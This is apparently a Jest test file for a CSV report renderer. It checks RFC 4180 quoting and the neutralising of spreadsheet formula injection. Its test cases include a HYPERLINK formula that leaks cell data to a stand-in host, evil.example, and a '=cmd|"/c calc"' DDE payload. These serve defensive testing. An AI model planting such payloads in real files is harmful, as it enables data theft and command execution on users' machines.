import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { ALL_CHECKS } from '../../src/policy/types.js';
import { SEVERITIES } from '../../src/types.js';
import { CSV_COLUMNS, csvCell, renderCsv } from '../../src/report/csv.js';
import { ORG, client, expectGolden, finding, fixtureReport, reportOf } from './fixtures.js';

/** A strict RFC 4180 parser: CRLF records, quoted fields with doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push(row);
      row = [];
      i += 2;
      continue;
    }
    throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length > 0) throw new Error('last record not terminated by CRLF');
  return rows;
}

/** What a value must become in its cell: prefixed with `'` when a spreadsheet would run it. */
function guarded(value: string): string {
  return /^[=+\-@\t\r]/u.test(value) ? `'${value}` : value;
}

describe('CSV report', () => {
  test('matches the golden file', () => {
    expectGolden('report.csv', renderCsv(fixtureReport()));
  });

  test('header, one row per finding, one pass row per clean client, policy findings without client', () => {
    const r = fixtureReport();
    const rows = parseCsv(renderCsv(r));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const findings =
      r.clients.reduce((n, c) => n + Math.max(1, c.findings.length), 0) + r.policyFindings.length;
    expect(rows).toHaveLength(1 + findings);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
    const clean = rows.find((row) => row[1] === 'clean-client')!;
    expect(clean.slice(0, 5)).toEqual([
      '3f1c2d4e-0000-4a00-8000-000000000006',
      'clean-client',
      'CODE',
      'active',
      'pass',
    ]);
    expect(clean.slice(5, 14).every((c) => c === '')).toBe(true);
    // The usage columns come last, so that readers by position keep working.
    expect(CSV_COLUMNS.slice(14)).toEqual(['last_used', 'requests', 'created_by_id', 'created_by_name']);
    expect(clean.slice(14, 16)).toEqual(['2026-11-19', '3']);
    const policy = rows.filter((row) => row[6] === 'expired-exemption' || row[6] === 'unused-exemption');
    expect(policy).toHaveLength(2);
    expect(policy.every((row) => row.slice(0, 5).every((c) => c === ''))).toBe(true);
    expect(policy.every((row) => row.slice(14).every((c) => c === ''))).toBe(true);
    const exempted = rows.find((row) => row[6] === 'scope-not-allowed')!;
    expect(exempted.slice(10)).toEqual([
      'true',
      'Analytics dashboard migration, SEC-1234',
      'team-cx@example.com',
      '2026-11-25',
      '2026-11-19',
      '48210',
      // The creator, last: a name a spreadsheet would run as a formula is defused.
      'user-ana',
      "'=Ana, Web Team",
    ]);
    // Not in the usage data: never used in the window.
    expect(rows.find((row) => row[1] === 'mystery-device')!.slice(14, 16)).toEqual(['', '0']);
    // A creator named only by the users lookup; a client without a recorded creator has empty cells.
    expect(rows.find((row) => row[6] === 'orphaned-client')!.slice(-2)).toEqual(['user-gone', 'Old Admin']);
    expect(rows.find((row) => row[1] === 'mystery-device')!.slice(-2)).toEqual(['', '']);
  });

  test('without usage data the usage columns are empty', () => {
    const r = reportOf([ORG.clients[0]!], () => []);
    const rows = parseCsv(renderCsv(r));
    expect(rows[1]!.slice(14, 16)).toEqual(['', '']);
  });

  test('quotes fields with quotes, commas, CR and LF; lines end with CRLF', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    const text = renderCsv(fixtureReport());
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/gu, '').includes('\n')).toBe(false);
  });

  test.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['+1+2', "'+1+2"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', `"'\r=1"`],
    ['a=1', 'a=1'],
    ['', ''],
  ])('neutralises spreadsheet formulas: %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  test('hostile client names stay in their cell', () => {
    const names = [
      '=HYPERLINK("http://x","y")',
      'a,b\r\nc',
      '"quoted"',
      '-1',
      '@me',
      'x\u0000y',
      '\u202Eevil',
    ];
    const r = reportOf(
      names.map((name, i) => client({ id: `id-${i}`, name })),
      () => [finding({ message: '=cmd|"/c calc"!A0', subject: '+x' })],
    );
    const rows = parseCsv(renderCsv(r)).slice(1);
    expect(rows.map((row) => row[1])).toEqual(names.map(guarded));
    expect(rows.every((row) => row[9] === `'=cmd|"/c calc"!A0` && row[8] === "'+x")).toBe(true);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
  });

  test('property: every cell round-trips through an RFC 4180 parser', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            id: fc.string({ minLength: 1, maxLength: 10 }),
            name: fc.string({ unit: 'binary', maxLength: 30 }),
            message: fc.string({ unit: 'binary', maxLength: 30 }),
            subject: fc.constantFrom('', ',', '"', '\r\n', '=1', '-', '@', '\t', 'ok'),
          }),
          { maxLength: 8 },
        ),
        (specs) => {
          const clients = specs.map((s, i) => client({ id: `${s.id}-${i}`, name: s.name }));
          const r = reportOf(clients, (_c, i) => [
            finding({ message: specs[i]!.message, subject: specs[i]!.subject }),
          ]);
          const rows = parseCsv(renderCsv(r));
          expect(rows).toHaveLength(specs.length + 1);
          rows.slice(1).forEach((row, i) => {
            expect(row).toHaveLength(CSV_COLUMNS.length);
            expect(row[0]).toBe(guarded(clients[i]!.id));
            expect(row[1]).toBe(guarded(specs[i]!.name));
            expect(row[8]).toBe(guarded(specs[i]!.subject));
            expect(row[9]).toBe(guarded(specs[i]!.message));
            for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
          });
        },
      ),
    );
  });
});

test('check IDs and severities, written without escaping, need none', () => {
  for (const id of [...ALL_CHECKS, ...SEVERITIES]) {
    expect(id).toMatch(/^[a-z][a-z-]*$/);
    expect(csvCell(id)).toBe(id);
  }
});
